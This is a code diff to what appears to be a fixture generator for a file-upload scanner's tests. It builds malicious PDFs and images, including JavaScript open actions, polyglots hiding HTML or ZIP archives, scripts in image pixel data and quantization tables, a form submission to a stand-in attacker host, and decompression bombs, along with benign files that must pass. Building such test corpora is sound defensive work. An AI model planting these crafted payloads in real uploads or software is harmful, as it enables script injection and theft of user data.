@@ -41,16 +41,30 @@ def add(name: str, data: bytes, hides: str, expected: str | None, family: str | 
 
 def raw_pdf(objects: list[bytes], *, header: bytes = b"%PDF-1.7", trailer: bytes = b"") -> bytes:
     """A PDF with a correct cross-reference table; object n is ``objects[n - 1]``, the root is 1."""
+    body, xref = raw_pdf_body(objects, header=header, trailer=b"/Root 1 0 R " + trailer)
+    return body + end_of_pdf(xref)
+
+
+def raw_pdf_body(objects: list[bytes], *, header: bytes = b"%PDF-1.7", trailer: bytes = b"/Root 1 0 R ",
+                 between: bytes = b"") -> tuple[bytes, int]:
+    """Header, objects (``between`` after the first), cross-reference table and trailer — all but the
+    ``startxref … %%EOF`` lines — and the offset of the table."""
     out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
     offsets = []
     for number, body in enumerate(objects, start=1):
         offsets.append(len(out))
         out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+        if number == 1:
+            out += between
     xref = len(out)
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
-    return bytes(out)
+    out += b"trailer\n<< /Size %d %s>>\n" % (len(objects) + 1, trailer)
+    return bytes(out), xref
+
+
+def end_of_pdf(xref: int) -> bytes:
+    return b"startxref\n%d\n%%%%EOF\n" % xref
 
 
 def stream(body: bytes, entries: bytes = b"") -> bytes:
@@ -149,11 +163,42 @@ def png_insert(png: bytes, chunk: bytes) -> bytes:
     return png[:at] + chunk + png[at:]
 
 
-def zip_bytes() -> bytes:
+def zip_bytes(comment: bytes = b"", member: str = "Evil.class", content: bytes = b"\xca\xfe\xba\xbe" + b"\0" * 40) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as zf:
-        zf.writestr(zipfile.ZipInfo("Evil.class", date_time=(2020, 1, 1, 0, 0, 0)), b"\xca\xfe\xba\xbe" + b"\0" * 40)
+        zf.writestr(zipfile.ZipInfo(member, date_time=(2020, 1, 1, 0, 0, 0)), content)
+        zf.comment = comment
     return out.getvalue()
+
+
+def png_with_pixels(row: bytes) -> bytes:
+    """A one-row greyscale PNG whose pixels are ``row``, stored uncompressed (deflate level 0)."""
+    packer = zlib.compressobj(level=0)
+    idat = packer.compress(b"\x00" + row) + packer.flush()
+    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", len(row), 1, 8, 0, 0, 0, 0))
+            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))
+
+
+def exif_photo(seed: int) -> bytes:
+    """A plain grey photo with an EXIF thumbnail of random pixels (JPEG-compressed noise, as in a real
+    photo's thumbnail): its binary bytes hold ``<a ``, ``<img`` … by chance in about 2 % of seeds."""
+    import random
+
+    rnd = random.Random(seed)
+    thumb_image = Image.frombytes("RGB", (160, 120), bytes(rnd.getrandbits(8) for _ in range(160 * 120 * 3)))
+    out = io.BytesIO()
+    thumb_image.save(out, "JPEG", quality=90)
+    thumb = out.getvalue()
+    ifd1 = 8 + 2 + 4
+    start = ifd1 + 2 + 2 * 12 + 4
+    tiff = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", ifd1) + struct.pack("<H", 2)
+            + struct.pack("<HHII", 0x0201, 4, 1, start) + struct.pack("<HHII", 0x0202, 4, 1, len(thumb))
+            + struct.pack("<I", 0) + thumb)
+    app1 = b"Exif\x00\x00" + tiff
+    base = io.BytesIO()
+    Image.new("L", (400, 300), 200).save(base, "JPEG")
+    photo = base.getvalue()
+    return photo[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + photo[2:]
 
 
 def action_pdf(setup: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
@@ -188,6 +233,8 @@ def build() -> None:
 
     def first_page() -> Array:
         return Array([0, Name.Fit])
+
+    html = b"<html><body><script>fetch('/api/v1/sharing/applications')</script></body></html>"
 
     # ---- JavaScript, however it is packed
     add("js_openaction.pdf", action_pdf(open_action(JS())), "JavaScript run when the file opens", "pdf_javascript",
@@ -278,13 +325,50 @@ def build() -> None:
                                                   b"/Filter /FlateDecode "),
                                       page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
         "a content stream that unpacks to 48 MB (more than 4 x the 10 MB limit)", "pdf_bomb", "file_too_large")
+    # ---- the catalog written in the trailer, chains past the limit, actions written as streams (review 2)
+    direct_js = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")
+    body, xref = raw_pdf_body([b"null", PAGES, PAGE], trailer=b"/Root " + direct_js + b" ")
+    add("direct_root_js.pdf", body + end_of_pdf(xref),
+        "the catalog written directly in the trailer, with a JavaScript open action", "pdf_javascript",
+        "active_content")
+    direct_names = (b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS "
+                    b"(app.alert\\(1\\)) >>] >> >> /AcroForm << /Fields [] /XFA (x) >> >>")
+    body, xref = raw_pdf_body([b"null", PAGES, PAGE], trailer=b"/Root " + direct_names + b" ")
+    add("direct_root_names_xfa.pdf", body + end_of_pdf(xref),
+        "a catalog in the trailer with document JavaScript in /Names and an XFA form", "pdf_javascript",
+        "active_content")
+    chain = [b"<< /S /Named /N /FirstPage /Next %d 0 R >>" % (5 + i) for i in range(1001)]
+    add("uri_after_long_next_chain.pdf", letter_with(b"/OpenAction 4 0 R", *chain,
+                                                     b"<< /S /URI /URI (http://evil.example/) >>"),
+        "a web address opened after 1001 harmless /Next actions", "pdf_action_chain", "active_content")
+    add("uri_openaction_stream.pdf", letter_with(b"/OpenAction 4 0 R", stream(b"", b"/S /URI /URI (http://evil.example/) ")),
+        "an open action written as a stream (its dictionary opens a web address)", "pdf_auto_action",
+        "active_content")
+    add("submitform_aa_stream.pdf", letter_with(b"", stream(b"", b"/C << /S /SubmitForm /F (http://evil.example/) >> "),
+                                                page=PAGE.replace(b" >>", b" /AA 4 0 R >>", 1)),
+        "a page's /AA written as a stream, sending form data when the page closes", "pdf_auto_action",
+        "active_content")
+    # ---- polyglots: something after the real end, or a ZIP or web page where no viewer looks
+    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE])
+    add("pdf_zip_polyglot.pdf", body + zip_bytes(comment=b"\n" + end_of_pdf(xref)),
+        "PDF/ZIP polyglot: a ZIP after the trailer, its comment repeating startxref and %%EOF", "pdf_trailing_data",
+        "active_content")
+    add("pdf_trailing_html_then_eof.pdf", body + end_of_pdf(xref) + html + b"\n" + end_of_pdf(xref),
+        "PDF/HTML polyglot: a web page after %%EOF, then startxref and %%EOF again", "pdf_trailing_data",
+        "active_content")
+    archive = zip_bytes(member="index.html", content=html)
+    add("pdf_zip_in_stream.pdf", letter_with(b"", stream(archive)),
+        "a whole ZIP archive stored as the data of a stream (ZIP readers find it from the end)",
+        "pdf_hidden_content", "active_content")
+    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE], between=b"%" + html + b"\n")
+    add("pdf_html_in_comment.pdf", body + end_of_pdf(xref), "a web page in a comment between two objects",
+        "pdf_hidden_content", "active_content")
     add("lzw_stream.pdf", letter_with(b"", stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/Filter /LZWDecode "),
                                       page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
         "an LZW stream (qpdf unpacks LZW without a memory limit)", "pdf_lzw", "damaged_file")
     # ---- images that are something else too
     png = png_bytes()
     jpeg = jpeg_bytes()
-    html = b"<html><body><script>fetch('/api/v1/sharing/applications')</script></body></html>"
     add("png_html_polyglot.png", png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + html)),
         "HTML/PNG polyglot: a web page with a script in a text chunk", "image_hidden_content", "active_content")
     add("png_script_ztxt.png", png_insert(png, png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(html))),
@@ -318,6 +402,18 @@ def build() -> None:
     add("jpeg_pixel_bomb.jpg", huge, "claims 65000 x 65000 pixels", "image_bomb", "file_too_large")
     add("html_then_png.png", b"<html><script>alert(1)</script></html>" + png,
         "a web page in front of a PNG", "wrong_file_type", "wrong_file_type")
+    add("png_html_in_idat.png", png_with_pixels(b"<html><script>alert(document.domain)</script></html>"),
+        "a web page in the pixel data (IDAT stored uncompressed)", "image_hidden_content", "active_content")
+    add("png_zip_in_idat.png", png_with_pixels(zip_bytes(member="a.html", content=html)),
+        "a ZIP archive in the pixel data (IDAT stored uncompressed)", "image_hidden_content", "active_content")
+    table = b"<script>alert(document.cookie)</script>".ljust(64, b" ")
+    dqt = b"\xff\xdb" + struct.pack(">H", 2 + 65) + b"\x03" + table  # table 3: no component uses it
+    add("jpeg_html_in_dqt.jpg", jpeg[:2] + dqt + jpeg[2:], "a script in a quantization table (DQT)",
+        "image_hidden_content", "active_content")
+    large = b"Comment\x00\x00" + zlib.compress(b" " * (2 * 1024 * 1024) + html, 9)
+    add("png_ztxt_over_limit.png", png_insert(png, png_chunk(b"zTXt", large)),
+        "a compressed text chunk that unpacks to more than 1 MB (a script after 2 MB of spaces)",
+        "image_text_too_large", "file_too_large")
     # ---- benign letters that must pass
     add("ok_plain_letter.pdf", plain, "nothing: a plain one-page letter", None, None)
     add("ok_goto_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.GoTo, D=first_page()))),
@@ -335,6 +431,21 @@ def build() -> None:
         page.Resources.XObject = Dictionary(Im1=image)
         page.Contents = pdf.make_stream(b"q 480 0 0 360 57 400 cm /Im1 Do Q")
     add("ok_scanned_letter.pdf", action_pdf(scanned), "nothing: a scanned page (a JPEG image in a PDF)", None, None)
+    add("ok_linearized.pdf", saved(plain_letter(), linearize=True),
+        "nothing: a linearized letter (its last startxref names the first-page section at the top)", None, None)
+    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE])
+    first = body + end_of_pdf(xref)
+    update = b"4 0 obj\n<< /Producer (Scanner 2.1) >>\nendobj\n"
+    at = len(first) + len(update)
+    update += (b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Info 4 0 R "
+               b"/Prev %d >>\n" % (len(first), xref))
+    add("ok_incremental_update.pdf", first + update + end_of_pdf(at),
+        "nothing: a letter with an incremental update (two sections, /Prev)", None, None)
+    text = b"BT /F1 12 Tf 72 770 Td (<html> and <script> in the text of a page) Tj ET"
+    add("ok_html_words_in_page.pdf", letter_with(b"", stream(text), page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
+        "nothing: the words `<html>` and `<script>` in the text of a page (inside a stream)", None, None)
+    add("ok_exif_thumbnail.jpg", exif_photo(64),
+        "nothing: a photo whose binary EXIF thumbnail holds `<a` by chance (refused before review 2)", None, None)
     add("ok_scanned_letter.png", png_bytes((300, 200), pnginfo=_pnginfo()),
         "nothing: a scanned letter as PNG (with a text chunk)", None, None)
     xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
